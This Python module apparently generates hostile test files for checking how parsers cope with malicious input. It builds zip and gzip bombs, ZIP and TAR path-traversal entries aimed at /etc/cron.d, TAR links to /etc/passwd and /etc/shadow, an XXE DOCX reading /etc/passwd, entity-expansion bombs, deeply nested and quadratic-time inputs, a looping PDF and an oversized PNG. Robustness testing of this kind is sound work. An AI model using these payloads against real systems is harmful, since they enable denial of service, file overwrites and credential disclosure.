"""Files that attack whoever opens them, as bytes: made in seconds, small in memory, harmless while they are not unpacked.

Each function says what its file does to a reader that trusts it.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable
from email.message import EmailMessage
from typing import NamedTuple

MIB = 1 << 20
GIB = 1 << 30
_STORED, _DEFLATED = 0, 8
_DEFLATE_END = b"\x03\x00"  # an empty last block
_MAX_STORED_BLOCK = 65_535


class _Entry(NamedTuple):
    """An entry of a ZIP as it stands in the file, with whatever its headers are to claim."""

    name: bytes
    packed: bytes
    crc: int
    size: int
    method: int = _DEFLATED
    flags: int = 0

    def fields(self) -> tuple[int, ...]:
        return (self.flags, self.method, 0, 0x21, self.crc, len(self.packed), self.size, len(self.name), 0)

    def local_header(self) -> bytes:
        return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, *self.fields()) + self.name

    def record(self, offset: int) -> bytes:
        start = struct.pack("<4sHHHHHHIIIHH", b"PK\x01\x02", 20, 20, *self.fields())
        return start + struct.pack("<HHHII", 0, 0, 0, 0o100644 << 16, offset) + self.name


def _zip(body: bytes, entries: Iterable[tuple[_Entry, int]]) -> bytes:
    """An archive of `body` whose listing names each entry at its offset."""
    records = [entry.record(offset) for entry, offset in entries]
    listing = b"".join(records)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(records), len(records), len(listing), len(body), 0)
    return body + listing + end


def _one_after_another(entries: list[_Entry]) -> bytes:
    body, offsets = bytearray(), []
    for entry in entries:
        offsets.append(len(body))
        body += entry.local_header() + entry.packed
    return _zip(bytes(body), zip(entries, offsets, strict=True))


def _packed_zeros(size: int) -> bytes:
    """Zeros as a raw deflate stream: one packed block of a mebibyte over and over, which a full flush allows."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size // MIB) + _DEFLATE_END


def _crc_of_zeros(size: int) -> int:
    crc, block = 0, bytes(16 * MIB)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(bytes(size % len(block)), crc)


# Archives


def zip_of_zeros(size: int = 10 * GIB, entries: int = 5) -> bytes:
    """A ZIP of a thousandth of `size` that unpacks to `size` zeros: fills disk or memory. It declares its sizes honestly."""
    each = size // entries // MIB * MIB
    packed, crc = _packed_zeros(each), _crc_of_zeros(each)
    return _one_after_another([_Entry(b"zeros-%d.txt" % n, packed, crc, each) for n in range(entries)])


def nested_zip(depth: int = 50) -> bytes:
    """A ZIP in a ZIP, `depth` times, with a text in the innermost: follows a reader that opens archives in archives."""
    content, name = b"The innermost text.\n", "text.txt"
    for level in range(depth):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = stream.getvalue(), f"level-{level + 1}.zip"
    return content


def zip_path_traversal(path: str = "../../etc/cron.d/evil") -> bytes:
    """A ZIP with a good entry and one whose path leads out of the folder it is unpacked to."""
    content = b"* * * * * root true\n"
    entries = [
        _Entry(name, content, zlib.crc32(content), len(content), _STORED) for name in (b"good.txt", path.encode())
    ]
    return _one_after_another(entries)


def zip_with_lying_sizes(size: int = 300 * MIB, declared: int = 1000) -> bytes:
    """A ZIP whose entry declares `declared` bytes and unpacks to `size`: passes a check of declared sizes."""
    return _one_after_another([_Entry(b"small.txt", _packed_zeros(size), _crc_of_zeros(size), declared)])


def zip_overlapping(size: int = 64 * MIB, entries: int = 50) -> bytes:
    """A ZIP whose entries share one packed block: each quotes the next one's header, so that all unpack it.

    As in "A better zip bomb" (Fifield, WOOT 2019), section 3.
    """
    packed, crc, whole = _packed_zeros(size), _crc_of_zeros(size), size
    chain = [_Entry(b"part-%d.txt" % (entries - 1), packed, crc, whole)]
    zeros = bytes(16 * MIB)
    headers = b""
    for number in range(entries - 2, -1, -1):
        header = chain[0].local_header()
        assert len(header) <= _MAX_STORED_BLOCK
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        packed = quote + packed
        headers = header + headers
        crc = zlib.crc32(headers)
        for _ in range(size // len(zeros)):
            crc = zlib.crc32(zeros, crc)
        crc = zlib.crc32(bytes(size % len(zeros)), crc)
        whole += len(header)
        chain.insert(0, _Entry(b"part-%d.txt" % number, packed, crc, whole))
    body = chain[0].local_header() + packed
    offsets = [0]
    for entry in chain[:-1]:
        offsets.append(offsets[-1] + len(entry.local_header()) + 5)
    return _zip(body, zip(chain, offsets, strict=True))


def zip_of_one_entry_many_times(size: int = 16 * MIB, entries: int = 1000) -> bytes:
    """A ZIP whose listing names the same data over and over."""
    entry = _Entry(b"same.txt", _packed_zeros(size), _crc_of_zeros(size), size)
    return _zip(entry.local_header() + entry.packed, [(entry, 0)] * entries)


def zip_encrypted() -> bytes:
    """A ZIP whose entry says that it is protected by a password."""
    content = bytes(range(40))
    return _one_after_another([_Entry(b"secret.txt", content, zlib.crc32(content), 28, _STORED, flags=1)])


def tar_path_traversal(path: str = "../../etc/cron.d/evil") -> bytes:
    """A TAR with a good entry and one whose path leads out of the folder it is unpacked to."""
    return _tar([("good.txt", b"Good.\n"), (path, b"* * * * * root true\n")])


def tar_with_huge_size(size: int = 1 << 60) -> bytes:
    """A TAR whose entry claims an exbibyte: keeps a reader busy that skips what is not there."""
    entry = tarfile.TarInfo("huge.txt")
    entry.size = size
    return entry.tobuf(tarfile.GNU_FORMAT) + bytes(1024)


def tar_with_links() -> bytes:
    """A TAR with a symbolic link and a hard link to what lies outside, a device, and a text."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, kind, target in (
            ("symlink.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("hardlink.txt", tarfile.LNKTYPE, "../../etc/shadow"),
            ("device", tarfile.CHRTYPE, ""),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            archive.addfile(entry)
        _add(archive, "good.txt", b"Good.\n")
    return stream.getvalue()


def _tar(files: Iterable[tuple[str, bytes]]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in files:
            _add(archive, name, content)
    return stream.getvalue()


def _add(archive: tarfile.TarFile, name: str, content: bytes) -> None:
    entry = tarfile.TarInfo(name)
    entry.size = len(content)
    archive.addfile(entry, io.BytesIO(content))


def gzip_bomb(size: int = 10 * GIB) -> bytes:
    """A gzip file of a thousandth of `size` that unpacks to `size` zeros; its checksum is wrong, which is known only at the end."""
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + _packed_zeros(size) + struct.pack("<II", 0, size & 0xFFFFFFFF)


# XML, and what is made of it

_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{more}</Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
    "</Relationships>"
)


def _entities(levels: int = 9, width: int = 10) -> str:
    """Entities each of which names the one before ten times: 10 ** 9 at the end."""
    lines = ['<!ENTITY e0 "spam ">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels + 1)]
    return "".join(lines)


def xml_entity_bomb(form: str = "xml") -> bytes:
    """A document of a kilobyte whose entities grow to gigabytes. `form`: xml, svg, html or docx."""
    entities = _entities()
    if form == "docx":
        return _docx(f"<!DOCTYPE w:document [{entities}]>", "&e9;")
    if form == "svg":
        return f'<?xml version="1.0"?><!DOCTYPE svg [{entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>'.encode()
    if form == "html":
        return f"<!DOCTYPE html [{entities}]><html><body><p>Before.</p><p>&e9;</p></body></html>".encode()
    return f'<?xml version="1.0"?><!DOCTYPE a [{entities}]><a><b>Before.</b><b>&e9;</b></a>'.encode()


def docx_with_external_entity(uri: str = "file:///etc/passwd") -> bytes:
    """A DOCX whose text is an entity that names a file of the reader's machine."""
    return _docx(f'<!DOCTYPE w:document [<!ENTITY outside SYSTEM "{uri}">]>', "&outside;")


def _docx(declarations: str, text: str) -> bytes:
    part = (
        f'<?xml version="1.0" encoding="UTF-8"?>{declarations}'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        f"<w:p><w:r><w:t>Before.</w:t></w:r></w:p><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    return _package(
        {
            "[Content_Types].xml": _CONTENT_TYPES.format(part="word/document.xml", kind="wordprocessingml.document", more=""),
            "_rels/.rels": _RELATIONS.format(kind="officeDocument", target="word/document.xml"),
            "word/document.xml": part,
        }
    )  # fmt: skip


def xlsx_with_huge_dimension() -> bytes:
    """An XLSX of two cells that claims a sheet of 17 thousand million: fills a reader that makes room for what is claimed."""
    sheets = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    offices = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheet_type = '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    cells = "".join(
        f'<row r="{at}"><c r="{name}{at}" t="inlineStr"><is><t>{text}</t></is></c></row>'
        for name, at, text in (("A", 1, "First"), ("XFD", 1_048_576, "Last"))
    )
    return _package(
        {
            "[Content_Types].xml": _CONTENT_TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet", more=sheet_type),
            "_rels/.rels": _RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"),
            "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{sheets}" xmlns:r="{offices}"><sheets><sheet name="Prices" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _RELATIONS.format(kind="worksheet", target="worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{sheets}"><dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData></worksheet>',
        }
    )  # fmt: skip


def _package(parts: dict[str, str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


# Nesting, and what grows faster than its size


def endless_html(depth: int = 200_000) -> bytes:
    """An HTML page of `depth` elements in one another, with a text in the innermost: overflows the stack of a reader."""
    return b"<html><body>" + b"<div>" * depth + b"The innermost text." + b"</div>" * depth + b"</body></html>"


def deep_json(depth: int = 100_000) -> bytes:
    """A JSON file of `depth` lists in one another: overflows the stack of a reader."""
    return b"[" * depth + b"]" * depth


def mail_nested(depth: int = 200) -> bytes:
    """A message with a message attached that has a message attached, `depth` times."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@example.org", "b@example.org", "level 0"
    message.set_content("The innermost text.")
    content = message.as_bytes()
    for level in range(1, depth + 1):
        edge = f"edge-{level}"
        head = (
            f"From: a@example.org\nTo: b@example.org\nSubject: level {level}\nMIME-Version: 1.0\n"
            f'Content-Type: multipart/mixed; boundary="{edge}"\n\n--{edge}\nContent-Type: text/plain\n\nSee below.\n'
            f"--{edge}\nContent-Type: message/rfc822\n\n"
        )
        content = head.encode() + content + f"\n--{edge}--\n".encode()
    return content


def hostile_markdown(size: int = 50_000) -> dict[str, bytes]:
    """Markdown on which a careless reader takes time that grows with the square of the text, by what it is made of."""
    ticks = "".join("e" + "`" * n for n in range(int((2 * size) ** 0.5)))
    texts = {
        "open brackets": "[" * size,
        "open links": "[a](<b" * (size // 6),
        "emphasis": "*a **a " * (size // 7),
        "backticks": ticks,
        "quotes": "> " * (size // 2) + "a",
        "lists": "".join("  " * n + "- a\n" for n in range(int(size**0.5))),
        "comments": "<!-- " * (size // 5),
        "tags": "<a " * (size // 3),
        "pipes": "|" * size + "\n" + "|-" * (size // 2) + "\n",
        "underlines": "a\n" * (size // 2) + "=" * size,
        "entities": "&" * size,
        "front matter": "---\n" + "a: &a [" * 500,
    }
    return {name: text.encode() for name, text in texts.items()}


# Pages and pictures


def pdf_page_tree_loop() -> bytes:
    """A PDF whose tree of pages has itself as a branch: walks a careless reader in circles."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1000000 >>",
    ]
    body, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(body)


def png_of_many_pixels(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a hundred bytes that declares 3.6 thousand million pixels: fills a reader that makes room for them."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
